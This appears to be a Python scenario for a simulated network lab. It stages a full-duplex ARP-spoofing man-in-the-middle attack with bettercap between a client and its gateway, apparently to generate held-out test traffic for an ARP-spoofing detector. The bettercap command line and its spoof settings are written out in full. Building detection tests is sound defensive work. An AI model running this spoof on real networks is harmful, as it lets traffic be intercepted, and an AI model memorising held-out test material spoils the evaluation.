"""bettercap between one client and its gateway, in both directions."""

from lab.range import Range, arp_sender
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, gateway = net.inside("attacker"), net.inside("pc3"), net.router()
    www = net.web(net.outside("www"))
    attacker.sysctl(net__ipv4__conf__all__send_redirects="0", net__ipv4__conf__eth0__send_redirects="0")
    net.everyday()
    net.loop(client, f"curl -s -m 3 -o /dev/null http://{www.ip}/logo.png", 1.1)
    # It spoofs those whose MAC addresses its kernel knows.
    for known in (client, gateway):
        net.loop(attacker, f"ping -n -q -c 1 -W 1 {known.ip}", 3.0)
    net.quiet(3)
    with net.attack(
        "arp-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[client, gateway],
        others={"claimed": [gateway, client]},
        # It says the truth again when it ends.
        frames=f"arp and not arp src host {attacker.ip} and {arp_sender(attacker)}",
    ):
        orders = f"set arp.spoof.fullduplex true; set arp.spoof.targets {client.ip}; arp.spoof on"
        script = "sleep 14 | bettercap -no-colors -no-history -iface eth0 -gateway-override"
        script += f' {gateway.ip} -eval "{orders}"'
        net.tool(attacker, "sh", "-c", script, seconds=18)
        # The shell ends at once, bettercap some seconds later.
        net.quiet(3)


SCENARIO = Scenario(
    name="arp-spoofing-held-bettercap",
    about="bettercap tells a client and the gateway every second that the other one is the attacker.",
    detectors=("arp-spoofing",),
    tools={"bettercap": "bettercap", "iptables": "iptables"},
    held_out=True,
    run=run,
)
